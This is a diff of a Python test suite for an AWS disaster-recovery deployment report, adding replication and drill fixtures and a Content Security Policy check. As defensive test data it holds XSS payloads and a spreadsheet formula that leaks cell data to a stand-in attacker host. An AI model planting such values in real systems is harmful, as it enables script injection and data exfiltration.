@@ -5,10 +5,14 @@ The history is put into the lab with boto3: the items of each run are laid out b
 ``history.build_items`` (one item per source account per run, as the deploy role and drs_history_record write
 them) from instance statuses chosen so that the success rates sit exactly on the colour bands' boundaries, and
 one run is left ``in_progress`` with a lease that ran out hours ago, as a run killed without recording its end
-leaves it. The report reads the history back through drs_history_info.
+leaves it. Two runs verified replication (the later one also extended servers into a target account), and
+three drills are recorded as the drill action writes them. The report reads the history back through
+drs_history_info, the drills too.
 """
 
+import base64
 import csv
+import hashlib
 import json
 import re
 import shutil
@@ -36,17 +40,24 @@ FAILURE_COLUMNS = ["deployment_id", "started_at", "account_id", "account_name", 
                    "priority", "ssm_status", "error_category", "error_message", "remediation"]
 UNPROTECTED_COLUMNS = ["deployment_id", "started_at", "account_id", "account_name", "region", "instance_id", "name",
                        "wave", "priority", "status", "error_category", "reason", "remediation"]
-REPORT_FILES = ("report.html", "deployments.json", "failures.csv", "unprotected.csv")
+REPLICATION_COLUMNS = ["deployment_id", "started_at", "account_id", "account_name", "region", "instance_id", "name",
+                       "wave", "verdict", "replication_state", "error", "error_category", "lag_seconds", "reason",
+                       "remediation"]
+DRILL_COLUMNS = ["drill_id", "status", "started_at", "finished_at", "wave", "servers", "launched", "failed",
+                 "timed_out", "stopped", "not_protected", "jobs", "recovery_seconds", "rto_seconds", "over_rto"]
+REPORT_FILES = ("report.html", "deployments.json", "failures.csv", "unprotected.csv", "replication.csv", "drills.csv")
 HOSTILE_NAME = '<img src=x onerror="console.error(\'xss-name\')">, "db"'
 HOSTILE_MESSAGE = '<script>console.error("xss-message")</script> exit 1,\nsee "agent.log"'
 # An instance name (a tag anyone with ec2:CreateTags can set) that a spreadsheet would run as a formula.
 FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 STAGING = "333333333333"
-PROD, SHARED, RETAIL, SANDBOX, ANALYTICS, BATCH = (
-    "111111111111", "222222222222", "444444444444", "555555555555", "666666666666", "777777777777")
+PROD, SHARED, RETAIL, SANDBOX, ANALYTICS, BATCH, LEDGER, VAULT = (
+    "111111111111", "222222222222", "444444444444", "555555555555", "666666666666", "777777777777", "888888888888",
+    "999999999999")
+TARGET = "101010101010"
 NAMES = {PROD: "Production, EU", SHARED: "Shared services", RETAIL: "Retail <script>", SANDBOX: "Sandbox",
-         ANALYTICS: "Analytics", BATCH: "Batch"}
+         ANALYTICS: "Analytics", BATCH: "Batch", LEDGER: "Ledger", VAULT: 'Vault "<b>"'}
 AGENT_REMEDIATION = "Check the agent's installation log on the instance, then run the deployment again."
 
 
@@ -64,7 +75,8 @@ class _Instances:
     def __init__(self):
         self.entries = []
 
-    def add(self, account_id, status, number=1, wave=1, name=None, reason=None, category="agent_install"):
+    def add(self, account_id, status, number=1, wave=1, name=None, reason=None, category="agent_install",
+            replication=None):
         for _count in range(number):
             serial = len(self.entries)
             entry = {"instance_id": f"i-{account_id[:4]}{serial:013x}", "account_id": account_id,
@@ -77,6 +89,10 @@ class _Instances:
             elif not outcomes.is_protected(status):
                 entry.update(reason=reason or f"{status.replace('_', ' ')} (instance {serial})",
                              remediation=outcomes.status_remediation(status))
+            if replication:
+                entry["replication"] = dict({"reason": f"{replication['verdict']} (instance {serial})",
+                                             "replication_state": None, "error": None, "error_category": None,
+                                             "remediation": None, "lag_seconds": None}, **replication)
             self.entries.append(entry)
         return self
 
@@ -126,6 +142,29 @@ def _history(now):
     killed_at = now - timedelta(hours=4)
     analytics = _Instances().add(ANALYTICS, "installed", 2).add(ANALYTICS, "failed")
     running_since = now - timedelta(minutes=30)
+    # LEDGER's replication as an older run found it, then as the later run (which VAULT shared) found it
+    ledger_before = (_Instances().add(LEDGER, "installed", 2, replication={"verdict": "healthy", "lag_seconds": 3.0})
+                     .add(LEDGER, "installed", replication={"verdict": "stalled", "replication_state": "STALLED",
+                                                            "error": "UNSTABLE_NETWORK", "error_category": "network"}))
+    verified = (_Instances()
+                .add(LEDGER, "installed", 2, replication={"verdict": "healthy", "lag_seconds": 2.0})
+                .add(LEDGER, "installed", replication={"verdict": "syncing", "replication_state": "CONTINUOUS",
+                                                       "lag_seconds": 905.5})
+                .add(LEDGER, "installed", wave=2, replication={
+                    "verdict": "stalled", "replication_state": "STALLED", "error": "FAILED_TO_PAIR_REPLICATION_SERVER",
+                    "error_category": "network", "remediation": "Open TCP 1500 from the source to the staging subnet."})
+                .add(LEDGER, "failed", wave=2, category="network")
+                .add(VAULT, "installed", 2, replication={"verdict": "healthy", "lag_seconds": 1.0})
+                .add(VAULT, "installed", wave=2, name=HOSTILE_NAME, replication={
+                    "verdict": "syncing", "replication_state": "CONTINUOUS", "lag_seconds": 4210.0,
+                    "reason": HOSTILE_MESSAGE})
+                .add(VAULT, "timed_out", wave=2, category="ssm_timeout"))
+    extension = {"totals": {"extended": 5, "already_extended": 1, "failed": 1, "left_out": 1}, "runs": [
+        {"wave": 1, "target_account_id": TARGET, "staging_account_id": STAGING, "region": "us-east-1", "requested": 6,
+         "extended": 3, "already_extended": 1, "failed": 1, "left_out": 1,
+         "message": "1 server(s) could not be extended"},
+        {"wave": 2, "target_account_id": TARGET, "staging_account_id": STAGING, "region": "us-east-1", "requested": 2,
+         "extended": 2, "already_extended": 0, "failed": 0, "left_out": 0}]}
     return {
         "single": _run(now - timedelta(hours=20), _Instances().add(PROD, "installed", 10), [PROD]),
         "multi": _run(now - timedelta(hours=3), multi, [PROD, SHARED], stopped=True, stopped_after_wave=2,
@@ -136,6 +175,35 @@ def _history(now):
         # BATCH: still going, its lease renewed just now
         "running": _run(running_since, _Instances().add(BATCH, "installed", 4), [BATCH], final=False, written_at=now),
         "old": _run(now - timedelta(days=3), _Instances().add(PROD, "failed", 5), [PROD]),
+        "ledger_before": _run(now - timedelta(hours=10), ledger_before, [LEDGER]),
+        "verified": _run(now - timedelta(hours=5), verified, [LEDGER, VAULT], extension=extension),
+    }
+
+
+def _drill_item(started, waves, status="finished"):
+    """A drill as the drill action records it (plugins/plugin_utils/drill.py, Drill._record)."""
+    drill_id = uuid.uuid4().hex
+    finished = started + timedelta(minutes=45)
+    shaped = [dict({"servers": 3, "launched": 3, "failed": 0, "timed_out": 0, "stopped": 0, "not_protected": 0,
+                    "jobs": 1, "rto_seconds": 900, "over_rto": False}, **wave) for wave in waves]
+    totals = {key: sum(wave[key] for wave in shaped)
+              for key in ("servers", "launched", "failed", "timed_out", "stopped", "not_protected")}
+    return {"deployment_id": f"drill#{drill_id}", "timestamp": history.iso(started), "record_type": "drill",
+            "run_id": drill_id, "revision": 1, "started_at": history.iso(started), "finished_at": history.iso(finished),
+            "updated_at": history.iso(finished), "status": status, "waves": shaped, "totals": totals,
+            "ttl": int(finished.timestamp()) + 90 * 86400}
+
+
+def _drills(now):
+    """A drill of waves 1 and 2 (wave 2 over its RTO, one launch failed), a later one of wave 1 alone that was
+    stopped, over its RTO, and one of three days ago, outside the default period."""
+    return {
+        "both": _drill_item(now - timedelta(hours=8), [
+            {"wave": 1, "recovery_seconds": 640.0},
+            {"wave": 2, "servers": 3, "launched": 2, "failed": 1, "recovery_seconds": 1250.5, "over_rto": True}]),
+        "wave1": _drill_item(now - timedelta(hours=2), [
+            {"wave": 1, "servers": 4, "launched": 4, "recovery_seconds": 980.0, "over_rto": True}], status="stopped"),
+        "old": _drill_item(now - timedelta(days=3), [{"wave": 3, "recovery_seconds": 100.0}]),
     }
 
 
@@ -170,19 +238,21 @@ def history_runs(lab_factory):
     lab = lab_factory("demo")
     table_name = f"drs-report-{uuid.uuid4().hex[:8]}"
     _create_table(lab, table_name)
-    runs = _history(datetime.now(timezone.utc))
+    now = datetime.now(timezone.utc)
+    runs = _history(now)
+    drills = _drills(now)
     table = lab.client("dynamodb")
     from boto3.dynamodb.types import TypeSerializer  # pylint: disable=import-outside-toplevel
     serializer = TypeSerializer()
-    for items in runs.values():
+    for items in [*runs.values(), list(drills.values())]:
         for item in items:
             table.put_item(TableName=table_name, Item={key: serializer.serialize(_dynamo_value(value))
                                                        for key, value in item.items()})
-    return lab, table_name, runs
+    return lab, table_name, runs, drills
 
 
 def _report(history_fixture, output_dir, **filters):
-    lab, table_name, _runs = history_fixture
+    lab, table_name, _runs, _drills_recorded = history_fixture
     extra_vars = {"drs_report_table_name": table_name, "drs_report_output_dir": str(output_dir),
                   "drs_report_page_size": 2}
     extra_vars.update(filters)
@@ -200,11 +270,12 @@ def _chromium():
     return None
 
 
-def _open(page, tmp_path, *args):
-    """Open ``page`` in headless Chromium; returns its stdout and the console messages it logged."""
+def _open(page, tmp_path, *args, fragment=""):
+    """Open ``page`` (with the URL ``fragment``, if any) in headless Chromium; returns its stdout and the console
+    messages it logged."""
     command = [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions",
                "--enable-logging=stderr", "--v=0", f"--user-data-dir={tmp_path / 'chromium-profile'}", *args,
-               page.as_uri()]
+               page.as_uri() + (f"#{fragment}" if fragment else "")]
     completed = subprocess.run(command, capture_output=True, text=True, timeout=CHROMIUM_TIMEOUT, check=False)
     assert completed.returncode == 0, completed.stderr[-3000:]
     console = [line for line in completed.stderr.splitlines() if re.search(r":CONSOLE[:(\]]", line)]
@@ -342,7 +413,7 @@ def test_chromium_reports_console_messages_to_the_check(tmp_path):
 
 
 def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(history_runs, tmp_path):
-    _lab, table_name, runs = history_runs
+    _lab, table_name, runs, _drills_recorded = history_runs
     output = tmp_path / "report"
     run = _report(history_runs, output)
     generated = json.loads((output / "deployments.json").read_text(encoding="utf-8"))
@@ -379,7 +450,7 @@ def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(his
     starts = {item["deployment_id"]: item["started_at"] for item in reported}
     for row in failure_rows:
         assert "#" not in row["started_at"] and _time(row["started_at"]) == _time(starts[row["deployment_id"]])
-    assert {row["account_id"] for row in failure_rows} == {PROD, SHARED, RETAIL, ANALYTICS}
+    assert {row["account_id"] for row in failure_rows} == {PROD, SHARED, RETAIL, ANALYTICS, LEDGER, VAULT}
 
     # unprotected.csv: one row per unprotected instance the items hold, whatever its status
     unprotected_rows = _read_csv(output / "unprotected.csv", UNPROTECTED_COLUMNS)
@@ -395,8 +466,16 @@ def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(his
     page = output / "report.html"
     html = page.read_text(encoding="utf-8")
     source = _Dom(html)
-    assert not [tag for tag, _attrs in source.elements if tag in ("script", "link", "img", "iframe", "object")]
+    assert not [tag for tag, _attrs in source.elements if tag in ("link", "img", "iframe", "object")]
     assert not [attrs for _tag, attrs in source.elements if {"src", "href", "srcset"} & set(attrs)]
+    # one inline script, which the Content Security Policy allows by its hash and nothing else may run
+    assert [tag for tag, _attrs in source.elements if tag == "script"] == ["script"]
+    script = html.split("<script>", 1)[1].split("</script>", 1)[0]
+    digest = base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode()
+    [policy] = [attrs["content"] for _tag, attrs in source.elements
+                if attrs.get("http-equiv") == "Content-Security-Policy"]
+    directives = dict(directive.strip().split(" ", 1) for directive in policy.split(";"))
+    assert directives["script-src"] == f"'sha256-{digest}'" and directives["default-src"] == "'none'"
     style = html.split("<style>", 1)[1].split("</style>", 1)[0]
     assert not re.search(r"url\(|@import|https?:", style, re.IGNORECASE)
     dom_text, console = _open(page, tmp_path, "--dump-dom")
@@ -407,14 +486,15 @@ def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(his
     # each account's cell has the colour of the success rate computed from the items
     cells = {attrs["data-account-id"]: attrs for attrs in dom.with_class("account-cell")}
     expected = _expected_bands(reported)
-    assert set(cells) == set(expected) == {PROD, SHARED, RETAIL, SANDBOX, ANALYTICS, BATCH}
+    assert set(cells) == set(expected) == {PROD, SHARED, RETAIL, SANDBOX, ANALYTICS, BATCH, LEDGER, VAULT}
     for account_id, (rate, band) in expected.items():
         classes = cells[account_id]["class"].split()
         assert [name for name in classes if name.startswith("status-")] == [f"status-{band}"], (account_id, classes)
         shown_rate = cells[account_id]["data-success-rate"]
         assert (shown_rate == "") if rate is None else float(shown_rate) == pytest.approx(float(rate), abs=1e-4)
     assert {account_id: band for account_id, (_rate, band) in expected.items()} == {
-        PROD: "green", SHARED: "yellow", RETAIL: "red", SANDBOX: "none", ANALYTICS: "red", BATCH: "green"}
+        PROD: "green", SHARED: "yellow", RETAIL: "red", SANDBOX: "none", ANALYTICS: "red", BATCH: "green",
+        LEDGER: "yellow", VAULT: "red"}
 
     # summary: the success rate over every instance, every deployment status counted
     stats = {attrs["data-stat"]: attrs for attrs in dom.with_class("stat")}
@@ -442,7 +522,7 @@ def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(his
     assert set(rows) == set(listed)
     for key, instance in listed.items():
         attrs, words = rows[key]
-        assert attrs["data-status"] == instance["status"]
+        assert attrs["data-instance-status"] == instance["status"]
         assert instance["reason"] in words and instance["remediation"] in words, key
         assert instance["status"].replace("_", " ") in words
     assert [attrs["data-account-id"] for attrs in dom.with_class("unprotected-group")] == \
@@ -474,7 +554,8 @@ def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(his
     [hostile] = [instance for instance in runs["retail"][0]["unprotected_instances"] if instance["name"] == HOSTILE_NAME]
     assert HOSTILE_NAME in text and hostile["reason"] in text and "Retail <script>" in text
     assert "<script>" in hostile["reason"]
-    assert not [tag for tag, _attrs in dom.elements if tag in ("script", "img")]
+    assert not [tag for tag, _attrs in dom.elements if tag == "img"]
+    assert [tag for tag, _attrs in dom.elements if tag == "script"] == ["script"]
     assert AGENT_REMEDIATION in text
 
     # a screenshot next to the report, for people to look at
@@ -490,7 +571,7 @@ def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(his
 def test_runs_that_did_not_end_normally_show_as_such_and_can_be_selected(history_runs, tmp_path, status, run_name):
     """A run killed without recording its end (its item in progress, its lease run out) shows as interrupted;
     one still going as in progress; one stopped by a signal as stopped."""
-    _lab, _table_name, runs = history_runs
+    _lab, _table_name, runs, _drills_recorded = history_runs
     output = tmp_path / status
     since = (datetime.now(timezone.utc) - timedelta(days=4)).strftime("%Y-%m-%dT%H:%M:%SZ")
     _report(history_runs, output, drs_report_since=since, drs_report_status=status)
@@ -519,7 +600,7 @@ def test_runs_that_did_not_end_normally_show_as_such_and_can_be_selected(history
 
 
 def test_filters_select_the_deployments_and_are_shown(history_runs, tmp_path):
-    _lab, _table_name, runs = history_runs
+    _lab, _table_name, runs, _drills_recorded = history_runs
     output = tmp_path / "filtered"
     since = (datetime.now(timezone.utc) - timedelta(days=4)).strftime("%Y-%m-%dT%H:%M:%SZ")
     _report(history_runs, output, drs_report_since=since, drs_report_account_id=PROD, drs_report_status="failed")
